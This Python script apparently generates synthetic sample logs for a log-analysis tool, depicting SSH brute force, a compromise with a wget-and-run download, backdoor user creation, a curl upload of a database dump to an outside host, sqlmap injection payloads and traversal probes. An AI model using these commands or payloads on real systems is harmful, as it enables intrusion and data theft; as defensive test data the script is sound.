#!/usr/bin/env python3
"""Writes examples/logs/: one day (2026-03-14) of two rented servers under attack.

web01 (Tokyo, nginx + sshd, logs in local time Asia/Tokyo) and db01 (MySQL, auditd, sshd,
RFC 3339 syslog). Deterministic (fixed seed), so the bundled sample never changes unless this
script does. The story, for people reading the output of `tansa analyze examples/logs`:

  * all day: ordinary visitors, crawlers, admins logging in with keys, cron, sudo;
  * 45.141.87.0/24 (three hosts) brute-forces SSH on web01 from 18:00 JST; 45.141.87.23
    finally gets in as `deploy`, runs sudo, adds a user `support` to the sudo group, downloads a
    script with wget and runs it, clears the shell history;
  * from web01 the attacker hops to db01 (10.0.0.6) as deploy, where auditd records the
    commands and MySQL is dumped INTO OUTFILE;
  * 198.51.100.23 scans the web site with sqlmap (SQL injection), 203.0.113.77 probes for
    /.env, /.git/config and traversal, and a port scan is blocked by UFW;
  * MySQL refuses a burst of root logins from 192.0.2.50.
"""
import os
import random

rng = random.Random(20260314)
OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "examples", "logs")
MON = "Mar"
JST = 9 * 3600  # web01 writes local time (Asia/Tokyo)


def bsd(t):  # classic syslog stamp in JST (no year, no zone)
    t += JST
    return f"{MON} {14 + t // 86400:2d} {(t // 3600) % 24:02d}:{(t // 60) % 60:02d}:{t % 60:02d}"


def clf(t):  # nginx stamp with offset
    t += JST
    return f"{14 + t // 86400:02d}/{MON}/2026:{(t // 3600) % 24:02d}:{(t // 60) % 60:02d}:{t % 60:02d} +0900"


def iso(t, frac=0):  # RFC 3339, UTC (db01)
    return f"2026-03-14T{t // 3600:02d}:{(t // 60) % 60:02d}:{t % 60:02d}.{frac:06d}+00:00"


web_auth, web_access, web_error, web_kern = [], [], [], []
db_auth, db_audit, db_mysql = [], [], []
pid = [3000]


def npid():
    pid[0] += rng.randint(1, 9)
    return pid[0]


ADMINS = [("alice", "10.0.0.21"), ("bob", "10.0.0.22"), ("deploy", "192.0.2.10")]
KEYS = {"alice": "Yk0Ukq7vQ2dYQ9yq1Qm3Yy0n0s2r1iZkz2bP0mX4d8c", "bob": "p1Qx3w9Jc0Zb2eR7uT5yL8mN4kH6gF2dS1aA0zX9cV8",
        "deploy": "Rb7Zp2Kx8Wq4Ny6Mv1Lt3Hs5Gd9Fc0Bj2Ah4Xe6Ku8"}

# --- benign: admins, cron, web traffic --------------------------------------------------
for h in range(24):
    t0 = h * 3600
    for m in range(0, 60, 5):  # cron every 5 minutes
        t = t0 + m * 60
        p = npid()
        web_auth.append((t, f"{bsd(t)} web01 CRON[{p}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"))
        web_auth.append((t + 1, f"{bsd(t + 1)} web01 CRON[{p}]: pam_unix(cron:session): session closed for user root"))
    for _ in range(rng.randint(1, 3)):  # admins
        user, ip = rng.choice(ADMINS)
        t = t0 + rng.randint(0, 3500)
        p = npid()
        port = rng.randint(40000, 60000)
        web_auth.append((t, f"{bsd(t)} web01 sshd[{p}]: Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{KEYS[user]}"))
        web_auth.append((t, f"{bsd(t)} web01 sshd[{p}]: pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"))
        if user != "deploy" and rng.random() < 0.5:
            t2 = t + rng.randint(10, 200)
            web_auth.append((t2, f"{bsd(t2)} web01 sudo:    {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx"))
        t3 = t + rng.randint(200, 900)
        web_auth.append((t3, f"{bsd(t3)} web01 sshd[{p}]: Disconnected from user {user} {ip} port {port}"))
        web_auth.append((t3, f"{bsd(t3)} web01 sshd[{p}]: pam_unix(sshd:session): session closed for user {user}"))
    for _ in range(rng.randint(40, 90)):  # visitors
        t = t0 + rng.randint(0, 3599)
        ip = f"{rng.choice([133, 126, 153, 180, 210])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        path = rng.choice(["/", "/products/42", "/products/7", "/search?q=green+tea&page=2", "/cart", "/about",
                           "/static/css/main.css", "/static/js/app.js", "/blog/2026/03/spring-sale", "/favicon.ico"])
        ua = rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
                         "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
                         "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"])
        status = 404 if path == "/favicon.ico" and rng.random() < 0.3 else 200
        web_access.append((t, f'{ip} - - [{clf(t)}] "GET {path} HTTP/2.0" {status} {rng.randint(200, 90000)} "https://shop.example.jp/" "{ua}"'))
    # db01: the app connects, an admin checks replication
    t = t0 + 600
    p = npid()
    db_auth.append((t, f"{iso(t)} db01 sshd[{p}]: Accepted publickey for bob from 10.0.0.22 port 51514 ssh2: ED25519 SHA256:{KEYS['bob']}"))
    db_mysql.append((t + 5, f"{iso(t + 5)} {rng.randint(10, 99)} [Note] [MY-010926] [Server] Access denied for user 'report'@'10.0.0.5' (using password: YES)"
                     if h == 7 else f"{iso(t + 5)} 0 [System] [MY-013172] [Server] Received SHUTDOWN from user <via user signal>. Shutting down mysqld (Version: 8.0.36)."
                     if h == 23 else f"{iso(t + 5)} 12 [Note] [MY-010914] [Server] Aborted connection 12 to db: 'shop' user: 'app' host: '10.0.0.5' (Got timeout reading communication packets)."))

# --- attack 1: SSH brute force from 45.141.87.0/24 (from 18:00 JST), then a login ----------
ATT = ["45.141.87.12", "45.141.87.19", "45.141.87.23"]
USERS = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "deploy", "user", "ftpuser"]
t = 18 * 3600 - JST  # 18:00 JST = 09:00 UTC
for i in range(160):
    ip = ATT[i % 3]
    user = rng.choice(USERS)
    p = npid()
    port = rng.randint(30000, 65000)
    t += rng.randint(2, 9)
    if user in ("root", "deploy", "git"):
        web_auth.append((t, f"{bsd(t)} web01 sshd[{p}]: Failed password for {user} from {ip} port {port} ssh2"))
    else:
        web_auth.append((t, f"{bsd(t)} web01 sshd[{p}]: Invalid user {user} from {ip} port {port}"))
        web_auth.append((t + 1, f"{bsd(t + 1)} web01 sshd[{p}]: Failed password for invalid user {user} from {ip} port {port} ssh2"))
    web_auth.append((t + 1, f"{bsd(t + 1)} web01 sshd[{p}]: Connection closed by authenticating user {user} {ip} port {port} [preauth]"))
    # UFW sees the same /24 probing other ports
    if i % 8 == 0:
        web_kern.append((t, f"{bsd(t)} web01 kernel: [{t}.{rng.randint(100000, 999999)}] [UFW BLOCK] IN=eth0 OUT= MAC=00:16:3e:5a:12:01 SRC={ip} DST=203.0.113.10 LEN=44 TOS=0x00 PREC=0x00 TTL=241 ID={rng.randint(1, 65535)} PROTO=TCP SPT={port} DPT={rng.choice([23, 2222, 3389, 5900, 6379, 8080, 8443, 9200, 11211, 27017, 3306, 5432, 25, 110, 143, 445, 1433, 5985])} WINDOW=1024 RES=0x00 SYN URGP=0"))
t += 20
p = npid()
IN = "45.141.87.23"
web_auth.append((t, f"{bsd(t)} web01 sshd[{p}]: Accepted password for deploy from {IN} port 50312 ssh2"))
web_auth.append((t, f"{bsd(t)} web01 sshd[{p}]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
web_auth.append((t + 1, f"{bsd(t + 1)} web01 systemd-logind[612]: New session 417 of user deploy."))
steps = [
    (30, "sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"),
    (35, "sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)"),
    (60, "useradd[{p2}]: new user: name=support, UID=1002, GID=1002, home=/home/support, shell=/bin/bash, from=/dev/pts/1"),
    (62, "usermod[{p3}]: add 'support' to group 'sudo'"),
    (64, "passwd[{p4}]: pam_unix(passwd:chauthtok): password changed for support"),
    (90, "sudo:   deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget -q http://203.0.113.200/x.sh -O /tmp/.x.sh"),
    (95, "sudo:   deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh /tmp/.x.sh"),
    (200, "sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash -c history -c"),
]
for dt, msg in steps:
    m = msg.format(p2=npid(), p3=npid(), p4=npid())
    web_auth.append((t + dt, f"{bsd(t + dt)} web01 {m}"))
# lateral movement: web01 (10.0.0.5) -> db01 as deploy
th = t + 240
p = npid()
db_auth.append((th, f"{iso(th)} db01 sshd[{p}]: Accepted password for deploy from 10.0.0.5 port 41022 ssh2"))
db_auth.append((th, f"{iso(th)} db01 sshd[{p}]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)"))
serial = 9100
for dt, argv, cwd in [(20, ["id"], "/home/deploy"), (40, ["mysqldump", "-u", "root", "shop"], "/home/deploy"),
                      (70, ["curl", "-s", "-T", "/tmp/shop.sql", "http://203.0.113.200/up"], "/tmp"),
                      (90, ["bash", "-c", "history -c"], "/home/deploy")]:
    tt = th + dt
    serial += 1
    exe = {"id": "/usr/bin/id", "mysqldump": "/usr/bin/mysqldump", "curl": "/usr/bin/curl", "bash": "/usr/bin/bash"}[argv[0]]
    ep = npid()
    stamp = f"audit({1773446400 + tt}.{rng.randint(100, 999)}:{serial})"
    db_audit.append((tt, f'type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=5612 a1=5613 a2=5614 a3=0 items=2 ppid={p} pid={ep} auid=1001 uid=1001 gid=1001 euid=1001 suid=1001 fsuid=1001 egid=1001 sgid=1001 fsgid=1001 tty=pts0 ses=88 comm="{argv[0]}" exe="{exe}" key="exec"'))
    args = " ".join(f'a{i}="{a}"' if " " not in a else f"a{i}={a.encode().hex().upper()}" for i, a in enumerate(argv))
    db_audit.append((tt, f"type=EXECVE msg={stamp}: argc={len(argv)} {args}"))
    db_audit.append((tt, f'type=CWD msg={stamp}: cwd="{cwd}"'))
    db_audit.append((tt, f"type=PROCTITLE msg={stamp}: proctitle={chr(0).join(argv).encode().hex().upper()}"))
    db_audit.append((tt, f"type=EOE msg={stamp}: "))
db_mysql.append((th + 50, f"{iso(th + 50)} 31 [Note] [MY-000000] [Server] Query: SELECT * FROM customers INTO OUTFILE '/tmp/shop.sql'"))

# --- attack 2: sqlmap against the shop ----------------------------------------------------
t = 11 * 3600 + 5 * 60
for i in range(60):
    t += rng.randint(1, 4)
    payload = rng.choice(["1%27%20AND%201%3D1--%20", "1%27%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20", "1%20AND%20SLEEP%285%29",
                          "1%27%29%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x71%29%29--", "-1%20union%20select%201%2C2%2Cconcat%28user%28%29%2C0x3a%2Cdatabase%28%29%29"])
    web_access.append((t, f'198.51.100.23 - - [{clf(t)}] "GET /products?id={payload} HTTP/1.1" {rng.choice([200, 500])} {rng.randint(100, 4000)} "-" "sqlmap/1.8.2#stable (https://sqlmap.org)"'))
web_error.append((t, f"2026/03/14 {((t + JST) // 3600) % 24:02d}:{(t // 60) % 60:02d}:{t % 60:02d} [error] 1201#1201: *88123 FastCGI sent in stderr: \"PHP message: PHP Warning: mysqli_query(): (42000/1064): You have an error in your SQL syntax\" while reading response header from upstream, client: 198.51.100.23, server: shop.example.jp, request: \"GET /products?id=1%27 HTTP/1.1\", upstream: \"fastcgi://unix:/run/php/php8.2-fpm.sock:\", host: \"shop.example.jp\""))

# --- attack 3: probes for secrets and traversal -------------------------------------------
t = 14 * 3600 + 22 * 60
for path in ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/backup.zip", "/.aws/credentials",
             "/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fshadow", "/server-status", "/actuator/env",
             "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/index.php?page=php://filter/convert.base64-encode/resource=index.php"] * 3:
    t += rng.randint(0, 2)
    web_access.append((t, f'203.0.113.77 - - [{clf(t)}] "GET {path} HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x"'))
for i in range(40):  # directory brute force
    t += 1
    web_access.append((t, f'203.0.113.77 - - [{clf(t)}] "GET /{rng.choice(["admin", "old", "test", "dev", "bak", "api", "v1", "tmp"])}{i} HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x"'))

# --- attack 4: MySQL root brute force on db01 ---------------------------------------------
t = 20 * 3600
for i in range(25):
    t += rng.randint(1, 3)
    db_mysql.append((t, f"{iso(t, rng.randint(0, 999999))} {100 + i} [Note] [MY-010926] [Server] Access denied for user 'root'@'192.0.2.50' (using password: YES)"))

# --- write ----------------------------------------------------------------------------------
def write(path, rows):
    full = os.path.join(OUT, path)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    rows = sorted(rows, key=lambda r: r[0])
    with open(full, "w") as f:
        for _, line in rows:
            f.write(line + "\n")


write("web01/auth.log", web_auth)
write("web01/nginx/access.log", web_access)
write("web01/nginx/error.log", web_error)
write("web01/kern.log", web_kern)
write("db01/auth.log", db_auth)
write("db01/audit/audit.log", db_audit)
write("db01/mysql/error.log", db_mysql)
